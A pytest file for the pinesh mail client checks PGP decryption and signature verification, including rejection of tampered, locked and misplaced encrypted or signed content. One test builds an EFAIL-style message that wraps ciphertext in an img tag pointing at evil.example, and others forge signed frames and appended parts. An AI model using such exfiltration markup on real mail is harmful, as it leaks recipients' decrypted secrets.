"""Reading signed and encrypted mail with the real gpg, in a keyring made for the test:
PGP/MIME and inline PGP decrypted and checked, and each way it must not be trusted
(a locked key, a key not here, a changed ciphertext, text beside a block, a signature
deeper in the message) shown as such."""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from pinesh.config.pine_settings import pine_settings
from pinesh.config.pinerc import parse_pinerc
from pinesh.config.settings import Settings
from pinesh.services.connections import Connections
from pinesh.services.folder_view import FolderView
from pinesh.services.mail import MailSession
from pinesh.services.protection import FrameKind, ProtectedMessage
from pinesh.stores.gpg_status import Verdict
from tests.unit.gpg_keyring import (
    BOB_PASSPHRASE,
    SIGNED_PART,
    forget_passphrases,
    gpg,
    inline_message,
    make_keyring,
    mbox,
    pgp_mime_encrypted,
    pgp_mime_signed,
)

INNER = b"Content-Type: text/plain; charset=utf-8\r\n\r\nThe vault code is 7291.\r\n"
SECRET = "The vault code is 7291."


@pytest.fixture(scope="module")
def keyring(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_keyring(tmp_path_factory.mktemp("gnupg") / "home")


class Reader:
    """Puts a message in an mbox folder and reads it as the message view does."""

    def __init__(self, home: Path, tmp_path: Path) -> None:
        self.home = home
        self.tmp_path = tmp_path
        rc = parse_pinerc("", str(tmp_path / "pinerc"))
        self.session = MailSession(
            Connections(Settings(), rc), pine_settings(rc), data_dir=tmp_path / "d"
        )
        self.views: list[FolderView] = []

    def view_of(self, message: bytes) -> FolderView:
        view = FolderView.open(
            self.session, str(mbox(self.tmp_path / f"box{len(self.views)}", message))
        )
        self.views.append(view)
        return view

    def read(self, message: bytes, passphrase: str | None = None) -> ProtectedMessage:
        view = self.view_of(message)
        return view.read_protected(view.uid_at(0), passphrase)


@pytest.fixture
def reader(keyring: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Reader]:
    monkeypatch.setenv("GNUPGHOME", str(keyring))
    made = Reader(keyring, tmp_path)
    yield made
    for view in made.views:
        view.close()


def test_a_pgp_mime_message_to_the_user_is_decrypted_and_said_unsigned(reader: Reader) -> None:
    shown = reader.read(pgp_mime_encrypted(reader.home, INNER, ("jane@example.org",)))
    (frame,) = shown.frames
    assert frame.kind is FrameKind.DECRYPTED and frame.scheme == "PGP/MIME"
    assert frame.text == SECRET + "\r\n" == shown.readable.text  # as it was sent
    opening = frame.opening(())
    assert opening is not None and "Not signed: who wrote it is not known" in opening
    assert shown.decryption is not None and shown.decryption.integrity
    assert frame.closing() == "Decrypted text ends"


def test_signed_and_encrypted_in_one_shows_the_signature_inside(reader: Reader) -> None:
    message = pgp_mime_encrypted(
        reader.home, INNER, ("jane@example.org",), sign_as="jane@example.org"
    )
    shown = reader.read(message)
    assert shown.signature is not None and shown.signature.verdict is Verdict.GOOD
    assert shown.frames[0].kind is FrameKind.DECRYPTED and SECRET in shown.readable.text


def test_a_signed_message_encrypted_is_checked_after_decrypting(reader: Reader) -> None:
    signed = pgp_mime_signed(reader.home, SIGNED_PART)
    inner = signed[signed.index(b"Content-Type: multipart/signed") :]
    shown = reader.read(pgp_mime_encrypted(reader.home, inner, ("jane@example.org",)))
    assert shown.signature is not None and shown.signature.verdict is Verdict.GOOD
    assert "Meet at the harbour at six." in shown.readable.text


def test_a_locked_key_asks_and_a_wrong_passphrase_is_said(reader: Reader) -> None:
    message = pgp_mime_encrypted(reader.home, INNER, ("bob@example.org",))
    forget_passphrases(reader.home)
    locked = reader.read(message)
    assert locked.needs_passphrase and locked.readable.text == ""
    assert locked.frames[0].kind is FrameKind.NOT_DECRYPTED
    assert "passphrase is needed" in (locked.frames[0].opening(()) or "")
    wrong = reader.read(message, "not it")
    assert wrong.decryption is not None and wrong.decryption.bad_passphrase
    assert "the passphrase was wrong" in (wrong.frames[0].opening(()) or "")
    right = reader.read(message, BOB_PASSPHRASE)
    assert right.readable.text.rstrip() == SECRET
    forget_passphrases(reader.home)


def test_a_message_for_someone_elses_key_says_so(reader: Reader, tmp_path: Path) -> None:
    other = make_keyring_with_only_carol(tmp_path / "carol")
    message = pgp_mime_encrypted(other, INNER, ("carol@example.org",))
    shown = reader.read(message)
    assert shown.decryption is not None and shown.decryption.no_secret_key
    assert "no secret key for them is in your keyring" in (shown.frames[0].opening(()) or "")
    assert SECRET not in shown.readable.text


def make_keyring_with_only_carol(home: Path) -> Path:
    home.mkdir(mode=0o700)
    gpg(home, "--passphrase", "", "--quick-gen-key", "Carol <carol@example.org>",
        "future-default", "default", "never")  # fmt: skip
    return home


def test_a_changed_ciphertext_shows_nothing_of_its_plaintext(reader: Reader) -> None:
    args = ("--trust-model", "always", "-r", "jane@example.org", "--encrypt")
    binary = bytearray(gpg(reader.home, *args, data=INNER))
    binary[-30] ^= 0x01  # inside the encrypted data: its integrity check (MDC) fails
    encoded = base64.encodebytes(bytes(binary)).replace(b"\n", b"\r\n")
    message = (
        b"From: Jane Doe <jane@example.org>\r\nSubject: changed\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted";'
        b' boundary="e1"\r\n\r\n'
        b"--e1\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n"
        b"--e1\r\nContent-Type: application/octet-stream\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + encoded + b"--e1--\r\n"
    )
    shown = reader.read(message)
    assert shown.decryption is not None and not shown.decryption.okay
    assert shown.readable.text == "" and shown.source is None
    assert shown.frames[0].kind is FrameKind.NOT_DECRYPTED


def test_a_decrypted_messages_attachment_is_read_from_the_decrypted_source(
    reader: Reader,
) -> None:
    inner = (
        b'Content-Type: multipart/mixed; boundary="m1"\r\n\r\n'
        b"--m1\r\nContent-Type: text/plain\r\n\r\nThe plan is attached.\r\n"
        b'--m1\r\nContent-Type: application/octet-stream; name="plan.bin"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n"
        + base64.b64encode(b"\x00secret plan\xff")
        + b"\r\n--m1--\r\n"
    )
    view = reader.view_of(pgp_mime_encrypted(reader.home, inner, ("jane@example.org",)))
    uid = view.uid_at(0)
    shown = view.read_protected(uid)
    (attachment,) = shown.readable.attachments
    assert attachment.filename == "plan.bin"
    source = shown.source
    assert view.part_bytes(uid, attachment.part_id, source=source) == (
        b"\x00secret plan\xff",
        False,
    )
    saved = reader.tmp_path / "plan.bin"
    view.save_part(uid, attachment.part_id, saved, source=source)
    assert saved.read_bytes() == b"\x00secret plan\xff"


def test_inline_clear_signed_text_is_framed_and_the_text_around_is_not(reader: Reader) -> None:
    signed = gpg(reader.home, "--clearsign", data=b"I agree to pay 10 EUR.\n- a dash line\n")
    body = b"Hello,\r\n\r\n" + signed + b"\r\nPS: and 1000 EUR more.\r\n"
    shown = reader.read(inline_message(body))
    kinds = [frame.kind for frame in shown.frames]
    assert kinds == [FrameKind.PLAIN, FrameKind.SIGNED, FrameKind.PLAIN]
    signed_frame, plain_after = shown.frames[1:]
    assert signed_frame.text == "I agree to pay 10 EUR.\n- a dash line\n"  # gpg's, unescaped
    assert signed_frame.signature is not None
    assert signed_frame.signature.verdict is Verdict.GOOD
    assert "1000 EUR" in plain_after.text and "1000 EUR" not in signed_frame.text
    assert "BEGIN PGP" not in shown.readable.text
    assert shown.readable.text == "".join(f.text for f in shown.frames)


def test_inline_clear_signed_text_changed_is_bad(reader: Reader) -> None:
    signed = gpg(reader.home, "--clearsign", data=b"I agree to pay 10 EUR.\n")
    shown = reader.read(inline_message(signed.replace(b"10 EUR", b"90 EUR")))
    signature = shown.signature
    assert signature is not None and signature.verdict is Verdict.BAD


def test_an_inline_message_that_is_one_encrypted_block_is_decrypted(reader: Reader) -> None:
    armour = gpg(reader.home, "--armor", "--trust-model", "always", "-r", "jane@example.org",
                 "--encrypt", data=b"Inline secret.\n")  # fmt: skip
    shown = reader.read(inline_message(b"\r\n" + armour + b"\r\n"))
    (frame,) = shown.frames
    assert frame.kind is FrameKind.DECRYPTED and frame.scheme == "inline PGP"
    assert shown.readable.text == "Inline secret.\n"


def test_an_encrypted_block_beside_other_text_is_not_decrypted(reader: Reader) -> None:
    armour = gpg(reader.home, "--armor", "--trust-model", "always", "-r", "jane@example.org",
                 "--encrypt", data=b"Inline secret.\n")  # fmt: skip
    beside = inline_message(b'<img src="http://evil.example/?\r\n' + armour + b'\r\n">\r\n')
    shown = reader.read(beside)
    assert "Inline secret" not in shown.readable.text
    kinds = [frame.kind for frame in shown.frames]
    assert kinds == [FrameKind.PLAIN, FrameKind.NOT_DECRYPTED, FrameKind.PLAIN]
    opening = shown.frames[1].opening(())
    assert opening is not None and "no decrypted text sits beside" in opening
    glued = reader.read(inline_message(b'<img src="http://evil.example/?' + armour + b'">\r\n'))
    assert "Inline secret" not in glued.readable.text  # not at a line's start: no block


def test_a_signed_part_deeper_in_the_message_is_not_shown_as_signed(reader: Reader) -> None:
    signed = pgp_mime_signed(reader.home, b"Content-Type: application/pdf\r\n\r\n%PDF-1.4\r\n")
    inner = signed[signed.index(b"Content-Type: multipart/signed") :]
    message = (
        b"From: Jane Doe <jane@example.org>\r\nSubject: contract\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="x1"\r\n\r\n'
        b"--x1\r\nContent-Type: text/plain\r\n\r\nI, Jane, sell you my house for 1 EUR.\r\n"
        b"--x1\r\n" + inner + b"\r\n--x1--\r\n"
    )
    shown = reader.read(message)
    assert [frame.kind for frame in shown.frames] == [FrameKind.PLAIN]
    assert shown.signature is None


def test_pinesh_show_reports_the_decryption_in_json(keyring: Path, tmp_path: Path) -> None:
    box = mbox(tmp_path / "box", pgp_mime_encrypted(keyring, INNER, ("jane@example.org",)))
    (tmp_path / "pinerc").write_text("")
    env = {**os.environ, "HOME": str(tmp_path), "GNUPGHOME": str(keyring)}
    pinesh = str(Path(sys.executable).parent / "pinesh")
    argv = [pinesh, "-p", str(tmp_path / "pinerc"), "show", str(box), "1"]
    done = subprocess.run([*argv, "--json"], capture_output=True, text=True, env=env,
                          timeout=60, check=True)  # fmt: skip
    shown = json.loads(done.stdout)
    assert shown["text"] == SECRET + "\r\n"
    assert shown["encryption"]["decrypted"] is True
    assert shown["encryption"]["integrity_checked"] is True
    assert shown["protected_text"] == [
        {"kind": "decrypted", "scheme": "PGP/MIME", "start": 0, "end": len(SECRET) + 2,
         "signature": None}
    ]  # fmt: skip
    text = subprocess.run(argv, capture_output=True, text=True, env=env, timeout=60, check=True)
    assert "[ Decrypted text begins (PGP/MIME, encrypted to " in text.stdout
    assert "[ Decrypted text ends ]" in text.stdout


def test_a_reply_to_a_decrypted_message_quotes_it_and_is_to_be_encrypted(
    reader: Reader,
) -> None:
    from pinesh.services.replying import reply_request

    view = reader.view_of(pgp_mime_encrypted(reader.home, INNER, ("jane@example.org",)))
    uid = view.uid_at(0)
    view.read_protected(uid)
    request = reply_request(
        reader.session, view.raw(uid), to_all=False, decrypted=view.decrypted_source(uid)
    )
    assert "> The vault code is 7291." in request.draft.body
    assert request.draft.subject == "Re: sealed"
    assert request.seal.encrypt and not request.seal.smime


@pytest.mark.parametrize(
    ("content_type", "sign", "encrypt", "smime"),
    [
        ('multipart/encrypted; protocol="application/pgp-encrypted"; boundary=x', False, True,
         False),
        ('multipart/signed; protocol="application/pgp-signature"; boundary=x', True, False, False),
        ('multipart/signed; protocol="application/pkcs7-signature"; boundary=x', True, False,
         True),
        ("application/pkcs7-mime; smime-type=enveloped-data", False, True, True),
        ("application/pkcs7-mime; smime-type=signed-data", True, False, True),
        ("text/plain", False, False, False),
    ],
)  # fmt: skip
def test_a_reply_is_sealed_as_its_original_was(
    content_type: str, sign: bool, encrypt: bool, smime: bool
) -> None:
    from pinesh.services.replying import suggested_seal

    seal = suggested_seal(f"From: a@b.example\nContent-Type: {content_type}\n\nx\n".encode())
    assert (seal.sign, seal.encrypt, seal.smime) == (sign, encrypt, smime)


HOSTILE_CRYPTO = sorted((Path(__file__).parent.parent / "corpus" / "hostile").glob("crypto-*.eml"))


def test_the_crypto_corpus_is_there() -> None:
    assert len(HOSTILE_CRYPTO) >= 7  # fail, don't skip: an empty list proves nothing


@pytest.mark.parametrize("path", HOSTILE_CRYPTO, ids=lambda p: p.name)
def test_no_hostile_message_reads_as_signed_or_decrypted(reader: Reader, path: Path) -> None:
    shown = reader.read(path.read_bytes())
    assert all(frame.kind is not FrameKind.DECRYPTED for frame in shown.frames)
    for frame in shown.frames:
        if frame.signature is not None:
            assert frame.signature.verdict is not Verdict.GOOD
    assert shown.readable.text == "".join(frame.text for frame in shown.frames)


def test_a_forged_frame_in_the_text_stays_plain_text(reader: Reader) -> None:
    forged = Path(__file__).parent.parent / "corpus" / "hostile" / "crypto-forged-frame.eml"
    shown = reader.read(forged.read_bytes())
    assert [frame.kind for frame in shown.frames] == [FrameKind.PLAIN]
    assert "Signed text begins" in shown.readable.text  # shown, as the message's own words


def test_an_encrypted_part_inside_another_message_is_never_decrypted(reader: Reader) -> None:
    efail = (
        Path(__file__).parent.parent
        / "corpus"
        / "hostile"
        / "crypto-efail-encrypted-part-between-html.eml"
    )
    shown = reader.read(efail.read_bytes())
    assert shown.decryption is None and shown.source is None
    assert "evil.example" not in "".join(f.opening(()) or "" for f in shown.frames)


def test_a_part_added_after_the_signature_is_not_shown_as_signed(reader: Reader) -> None:
    signed = pgp_mime_signed(reader.home)
    added = signed.replace(
        b"\r\n--b1--\r\n",
        b"\r\n--b1\r\nContent-Type: text/plain\r\n\r\nATTACKER: wire the money.\r\n--b1--\r\n",
    )
    shown = reader.read(added)
    (frame,) = shown.frames
    assert frame.kind is FrameKind.SIGNED
    assert frame.signature is not None and frame.signature.verdict is Verdict.GOOD
    assert "Meet at the harbour at six." in shown.readable.text
    assert "ATTACKER" not in shown.readable.text
    assert shown.readable.note is not None and "not signed" in shown.readable.note


def test_a_signed_messages_attachment_is_read_from_what_was_signed(reader: Reader) -> None:
    part = (
        b'Content-Type: multipart/mixed; boundary="m1"\r\n\r\n'
        b"--m1\r\nContent-Type: text/plain\r\n\r\nSee the plan.\r\n"
        b'--m1\r\nContent-Type: application/octet-stream; name="plan.bin"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.b64encode(b"signed plan") + b"\r\n"
        b"--m1--\r\n"
    )
    view = reader.view_of(pgp_mime_signed(reader.home, part))
    uid = view.uid_at(0)
    shown = view.read_protected(uid)
    assert shown.signature is not None and shown.signature.verdict is Verdict.GOOD
    (attachment,) = shown.readable.attachments
    # Read with the source it came with, whatever was read since (workers end in any
    # order): the folder's own part of that number may be one added after the signature.
    reader.read(pgp_mime_signed(reader.home))
    assert view.part_bytes(uid, attachment.part_id, source=shown.source) == (b"signed plan", False)


def test_a_reply_to_an_inline_encrypted_message_quotes_it_and_is_to_be_encrypted(
    reader: Reader,
) -> None:
    from pinesh.services.replying import reply_request

    armour = gpg(reader.home, "--armor", "--trust-model", "always", "-r", "jane@example.org",
                 "--encrypt", data=b"Inline secret.\n")  # fmt: skip
    view = reader.view_of(inline_message(armour))
    uid = view.uid_at(0)
    view.read_protected(uid)
    request = reply_request(
        reader.session, view.raw(uid), to_all=False, decrypted=view.decrypted_source(uid)
    )
    assert "> Inline secret." in request.draft.body and "BEGIN PGP" not in request.draft.body
    assert request.seal.encrypt


def test_a_signed_message_is_not_taken_for_a_decrypted_one(reader: Reader) -> None:
    view = reader.view_of(pgp_mime_signed(reader.home))
    uid = view.uid_at(0)
    view.read_protected(uid)
    assert view.decrypted_source(uid) is None  # a reply to it is signed, not encrypted


def test_pinesh_show_says_in_the_headers_what_protects_the_message(
    keyring: Path, tmp_path: Path
) -> None:
    forged = Path(__file__).parent.parent / "corpus" / "hostile" / "crypto-forged-frame.eml"
    box = mbox(tmp_path / "box", forged.read_bytes(), pgp_mime_signed(keyring))
    (tmp_path / "pinerc").write_text("")
    env = {**os.environ, "HOME": str(tmp_path), "GNUPGHOME": str(keyring)}
    pinesh = str(Path(sys.executable).parent / "pinesh")

    def shown(number: int) -> str:
        argv = [pinesh, "-p", str(tmp_path / "pinerc"), "show", str(box), str(number)]
        done = subprocess.run(argv, capture_output=True, text=True, env=env, timeout=60)
        assert done.returncode == 0, done.stderr
        return done.stdout.split("\n\n", 1)[0]  # the header block

    assert "Protection: none (nothing in this message is signed or encrypted)" in shown(1)
    assert "Protection: signed (PGP/MIME). Signature good by Jane" in shown(2)


def test_a_reply_from_the_index_decrypts_what_was_not_read_yet(reader: Reader) -> None:
    view = reader.view_of(pgp_mime_encrypted(reader.home, INNER, ("jane@example.org",)))
    uid = view.uid_at(0)
    assert view.decrypted_source(uid) is None  # not read
    decrypted = view.decrypted_for_reply(uid)
    assert decrypted is not None and b"The vault code is 7291." in decrypted
    plain = reader.view_of(inline_message(b"Nothing sealed here.\r\n"))
    assert plain.decrypted_for_reply(plain.uid_at(0)) is None


def test_a_reply_from_the_index_to_a_locked_message_quotes_nothing(reader: Reader) -> None:
    forget_passphrases(reader.home)
    view = reader.view_of(pgp_mime_encrypted(reader.home, INNER, ("bob@example.org",)))
    assert view.decrypted_for_reply(view.uid_at(0)) is None  # no prompt from a worker


def test_one_bad_block_of_two_is_the_messages_signature(reader: Reader) -> None:
    good = gpg(reader.home, "--clearsign", data=b"First, signed.\n")
    bad = gpg(reader.home, "--clearsign", data=b"Second, signed.\n").replace(b"Second", b"Altered")
    shown = reader.read(inline_message(good + b"\r\n" + bad))
    verdicts = [f.signature.verdict for f in shown.frames if f.signature is not None]
    assert verdicts == [Verdict.GOOD, Verdict.BAD]
    assert shown.signature is not None and shown.signature.verdict is Verdict.BAD
